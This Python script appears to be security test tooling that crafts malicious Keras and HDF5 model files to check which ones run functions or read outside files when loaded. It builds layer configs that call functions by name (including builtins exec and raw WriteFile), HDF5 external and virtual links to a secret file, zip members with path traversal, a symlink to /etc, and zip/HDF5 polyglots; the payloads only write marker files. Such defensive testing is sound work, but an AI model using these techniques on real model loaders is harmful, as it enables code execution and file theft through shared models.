"""Keras files that call functions or read other files when they are loaded without care: each would write `ran-NAME` into its
folder, or bring the numbers of `secret.bin` into the ONNX.

    PYTHON-OF-THE-TENSORFLOW-ENVIRONMENT keras_attacks.py FOLDER            makes them
    PYTHON-OF-THE-TENSORFLOW-ENVIRONMENT keras_attacks.py FOLDER NAME...    loads each as Keras does, and prints what then ran
"""

from __future__ import annotations

import contextlib
import json
import os
import sys
import zipfile
from pathlib import Path
from typing import Any, Callable

os.environ["TF_CPP_MIN_LOG_LEVEL"] = "3"
import h5py
import keras
import numpy as np
import tensorflow as tf
import tf_keras

# Numbers that no model of ours has.
SECRET = np.full(64, 1234.5, np.float32)
FUNCTIONS = (
    "keras.models.model_from_json",
    "io.write_file",
    "numpy_function",
    "raw_ops.WriteFile",
    "saved_model.load",
    "nn.fixed_unigram_candidate_sampler",
    "keras.backend.function",
    "load_library",
    "import_graph_def",
    "compat.v1.py_func",
    "keras.utils.get_file",
    "__internal__.tracking.TrackableDataStructure",
)


def main(folder: Path) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    SECRET.tofile(folder / "secret.bin")
    operators(folder)
    others(folder)
    storage(folder)
    saved_model(folder)
    both(folder)
    for marker in folder.glob("ran-*"):
        marker.unlink()


def with_step(folder: Path, name: str, step: dict[str, Any], ending: str = ".h5") -> None:
    """A model of two layers, the first of which becomes `step`."""
    layers = tf_keras.layers
    given = tf_keras.Input((4,), name="row")
    model = tf_keras.Model(given, layers.Dense(2)(layers.Activation("linear", name="step")(given)))
    path = folder / f"{name}{ending}"
    model.save(path)

    def change(text: str) -> str:
        config = json.loads(text)
        for layer in config["config"]["layers"]:
            if layer["name"] == "step":
                layer.update(step)
        return json.dumps(config)

    edit(path, change)


def edit(path: Path, change: Callable[[str], str]) -> None:
    if path.suffix == ".h5":
        with h5py.File(path, "r+") as file:
            file.attrs["model_config"] = change(file.attrs["model_config"])
        return
    rewrite(path, {"config.json": lambda content: change(content.decode()).encode()})


def rewrite(path: Path, changes: dict[str, Callable[[bytes], bytes]], **added: bytes) -> None:
    before = path.with_suffix(".before")
    path.rename(before)
    with zipfile.ZipFile(before) as whole, zipfile.ZipFile(path, "w") as copy:
        for member in whole.namelist():
            copy.writestr(member, changes.get(member, bytes)(whole.read(member)))
        for member, content in added.items():
            copy.writestr(member, content)
    before.unlink()


def operators(folder: Path) -> None:
    """Layers that call a function of TensorFlow or Keras by name; this one copies a file."""

    def copies(name: str) -> dict[str, Any]:
        return {"origin": f"file://{folder / 'secret.bin'}", "cache_dir": str(folder)}

    def by_class(name: str) -> dict[str, Any]:
        config = {"name": "step", "trainable": True, "dtype": "float32", "cls_symbol": "keras.utils.get_file", "method_name": "__call__"}
        # Its call takes a list and a dictionary.
        given = {"kwargs": {**copies(name), "archive_format": ["row", 0, 0]}}
        inbound = [[["_CONSTANT_VALUE", -1, str(folder / f"ran-{name}"), given]]]
        return {"class_name": "ClassMethod", "config": config, "inbound_nodes": inbound}

    def by_function(name: str, kind: str, function: str) -> dict[str, Any]:
        config = {"name": "step", "trainable": True, "dtype": "float32", "function": function}
        return {"class_name": kind, "config": config, "inbound_nodes": [["row", 0, 0, {}]]}

    def by_attribute(kind: str, attribute: str) -> dict[str, Any]:
        config = {"name": "step", "trainable": True, "dtype": "float32", "attr_name": attribute}
        return {"class_name": kind, "config": config, "inbound_nodes": [["row", 0, 0, {"args": [], "kwargs": {}}]]}

    with_step(folder, "class-method", by_class("class-method"))
    with_step(folder, "instance-method", by_attribute("InstanceMethod", "set_shape"))
    with_step(folder, "instance-property", by_attribute("InstanceProperty", "graph"))
    for at, function in enumerate(FUNCTIONS):
        with_step(folder, f"function-{at}", by_function("", "SlicingOpLambda" if at % 2 else "TFOpLambda", function))
    config = {"name": "step", "trainable": True, "dtype": "float32", "constants": {}}
    write = tf.compat.v1.NodeDef(name="step", op="WriteFile", input=["row", "row"])
    with_step(folder, "operator", {"class_name": "TensorFlowOpLayer", "config": {**config, "node_def": {"name": "step", "op": "WriteFile"}}})
    text = write.SerializeToString().decode()
    with_step(folder, "operator-text", {"class_name": "TensorFlowOpLayer", "config": {**config, "node_def": text}})
    inner = json.loads(tf_keras.Sequential([tf_keras.Input((4,)), tf_keras.layers.Dense(4)]).to_json())
    inner["config"]["layers"][1] = by_class("nested")
    with_step(folder, "nested", {"class_name": "Sequential", "config": inner["config"]})
    wrapped = {"name": "step", "layer": {"class_name": "Custom>ClassMethod", "config": by_class("wrapped")["config"]}}
    with_step(folder, "wrapped", {"class_name": "TimeDistributed", "config": wrapped})
    text = json.dumps(json.dumps({"class_name": "ClassMethod", "config": by_class("text")["config"]}))
    with_step(folder, "text", {"inbound_nodes": [["row", 0, 0, {"given": ["_COMPOSITE_TENSOR", text]}]]})
    # Where there is no class of the first name, Keras takes the second.
    hidden = {"module": "keras.src.layers.core.tf_op_layer", "class_name": "Nothing", "registered_name": "ClassMethod"}
    with_step(folder, "registered", {**by_class("registered"), **hidden}, ".keras")
    builtin = {"module": "builtins", "class_name": "exec", "registered_name": None, "config": {"name": "step"}}
    with_step(folder, "builtin", builtin, ".keras")
    calls = {"module": "keras.models", "class_name": "function", "config": "load_model", "registered_name": "load_model"}
    with_step(folder, "activation", {"config": {"name": "step", "activation": calls}}, ".keras")
    with_step(folder, "spec", {"config": {"name": "step", "activation": {"class_name": "TypeSpec", "type_spec": "tf.data.DatasetSpec", "serialized": []}}})


def others(folder: Path) -> None:
    """Code in the wrapper of a recurrent cell; a vocabulary that is another file's."""
    marker = str(folder / "ran-cell")
    cell = tf_keras.layers.LSTMCell(4)
    residual = tf.nn.RNNCellResidualWrapper(cell, residual_fn=lambda given, found: found if open(marker, "w").close() is None else found)
    tf_keras.Sequential([tf_keras.Input((3, 4)), tf_keras.layers.RNN(residual)]).save(folder / "cell.h5")
    (folder / "words.txt").write_text("31337\n4242\n")
    for library, ending in ((tf_keras, ".h5"), (tf_keras, ".keras"), (keras, ".keras")):
        layers = library.layers
        model = library.Sequential([library.Input((2,), dtype="int64"), layers.IntegerLookup(vocabulary=[5, 6]), layers.Embedding(4, 2), layers.Flatten()])
        path = folder / f"vocabulary-{named(library, ending)}{ending}"
        model.save(path)
        edit(path, lambda text: with_vocabulary(text, str(folder / "words.txt")))


def saved_model(folder: Path) -> None:
    """As Keras 2 wrote it; an operator within a function of its graph is another one."""
    from tensorflow.core.protobuf.saved_model_pb2 import SavedModel

    path = folder / "graph"
    tf_keras.Sequential([tf_keras.Input((4,)), tf_keras.layers.Dense(2)]).save(path, save_format="tf")
    saved = SavedModel.FromString((path / "saved_model.pb").read_bytes())
    nodes = [node for function in saved.meta_graphs[0].graph_def.library.function for node in function.node_def if node.op == "Identity"]
    nodes[0].op = "ReadFile"
    (path / "saved_model.pb").write_bytes(saved.SerializeToString())


def with_vocabulary(text: str, path: str) -> str:
    config = json.loads(text)
    for layer in config["config"]["layers"]:
        if layer["class_name"] == "IntegerLookup":
            layer["config"]["vocabulary"] = path
    return json.dumps(config)


def storage(folder: Path) -> None:
    """Weights whose numbers are in another file."""
    secret = str(folder / "secret.bin")
    with h5py.File(folder / "other.data", "w") as other:
        other["numbers"] = SECRET[:32].reshape(4, 8)

    def outside(file: Any, path: str) -> None:
        shape = file[path].shape
        del file[path]
        file.create_dataset(path, shape, "<f4", external=[(secret, 0, int(np.prod(shape)) * 4)])

    def linked(file: Any, path: str) -> None:
        del file[path]
        file[path] = h5py.ExternalLink(str(folder / "other.data"), "numbers")

    def assembled(file: Any, path: str) -> None:
        shape = file[path].shape
        del file[path]
        layout = h5py.VirtualLayout(shape, "<f4")
        layout[...] = h5py.VirtualSource(str(folder / "other.data"), "numbers", shape=shape)
        file.create_virtual_dataset(path, layout)

    def through(file: Any, path: str) -> None:
        """By a link within the file to one that leads out."""
        del file[path]
        file["elsewhere"] = h5py.ExternalLink(str(folder / "other.data"), "/")
        file[path] = h5py.SoftLink("/elsewhere/numbers")

    def referred(file: Any, path: str) -> None:
        file.attrs["place"] = file[path].ref

    changes = {"outside": outside, "linked": linked, "assembled": assembled, "through": through, "referred": referred}
    for name, change in changes.items():
        for library, ending in ((tf_keras, ".h5"), (tf_keras, ".keras"), (keras, ".keras"), (keras, ".weights.h5")):
            model = library.Sequential([library.Input((4,)), library.layers.Dense(8)])
            path = folder / f"{name}-{named(library, ending)}{ending}"
            model.save_weights(path) if ending == ".weights.h5" else model.save(path)
            if ending != ".keras":
                with h5py.File(path, "r+") as file:
                    change(file, kernel(file))
                continue
            rewrite(path, {"model.weights.h5": changed_file(folder, change)})
    (folder / "factory.py").write_text("import keras\n\ndef build():\n    return keras.Sequential([keras.Input((4,)), keras.layers.Dense(8)])\n")
    for name, member in (("climbs", "../climbed"), ("absolute", "/tmp/climbed"), ("twice", "config.json")):
        path = folder / f"{name}.keras"
        keras.Sequential([keras.Input((4,)), keras.layers.Dense(8)]).save(path)
        rewrite(path, {}, **{member: b"{}"})
    path = folder / "link.keras"
    keras.Sequential([keras.Input((4,)), keras.layers.Dense(8)]).save(path)
    with zipfile.ZipFile(path, "a") as whole:
        link = zipfile.ZipInfo("assets")
        link.external_attr = 0o120777 << 16
        whole.writestr(link, "/etc")


def changed_file(folder: Path, change: Callable[[Any, str], None]) -> Callable[[bytes], bytes]:
    """Of the bytes of an HDF5 file those that it has once its kernel was changed."""

    def changed(content: bytes) -> bytes:
        loose = folder / "loose.h5"
        loose.write_bytes(content)
        with h5py.File(loose, "r+") as file:
            change(file, kernel(file))
        try:
            return loose.read_bytes()
        finally:
            loose.unlink()

    return changed


def named(library: Any, ending: str) -> str:
    return f"{3 if library is keras else 2}-{ending[1:].replace('.', '-')}"


def both(folder: Path) -> None:
    """One file that is a zip to one reader and HDF5 to another, with a model in each."""
    layers = tf_keras.layers
    models = [tf_keras.Sequential([tf_keras.Input((4,)), layers.Dense(2)]) for _ in range(2)]
    plain, zipped = folder / "plain.h5", folder / "zipped.keras"
    models[0].save(plain)
    models[1].save(zipped)
    (folder / "both-zip.keras").write_bytes(plain.read_bytes() + zipped.read_bytes())
    # HDF5 may begin at any power of two from 512 on; a zip is read from its end.
    with h5py.File(folder / "later.h5", "w", userblock_size=2**16) as later, h5py.File(plain) as whole:
        later.attrs.update(whole.attrs)
        for name in whole:
            whole.copy(name, later)
    later_bytes = bytearray((folder / "later.h5").read_bytes())
    start = zipped.read_bytes()
    later_bytes[: 4] = start[:4]
    (folder / "both-later.keras").write_bytes(bytes(later_bytes) + start)
    for path in (plain, zipped, folder / "later.h5"):
        path.unlink()


def kernel(file: Any) -> str:
    """The largest of its arrays."""
    found: list[tuple[int, str]] = []
    file.visititems(lambda name, item: found.append((item.size, name)) if isinstance(item, h5py.Dataset) else None)
    return max(found)[1]


def what_runs(folder: Path, names: list[str]) -> dict[str, Any]:
    found: dict[str, Any] = {}
    for name in names:
        read = False
        with contextlib.suppress(Exception), contextlib.redirect_stdout(sys.stderr):
            library = keras if "-3-" in name else tf_keras
            model = library.models.load_model(folder / name, compile=False)
            numbers = [np.asarray(each) for each in model.get_weights()]
            words = [layer.get_vocabulary() for layer in model.layers if hasattr(layer, "get_vocabulary")]
            read = any(1234.5 in each for each in numbers) or any(31337 in each for each in words)
        markers = list(folder.glob("ran-*"))
        found[name] = bool(markers) or read
        for marker in markers:
            marker.unlink()
    return found


if __name__ == "__main__":
    if len(sys.argv) > 2:
        print(json.dumps(what_runs(Path(sys.argv[1]), sys.argv[2:])))
    else:
        main(Path(sys.argv[1]))
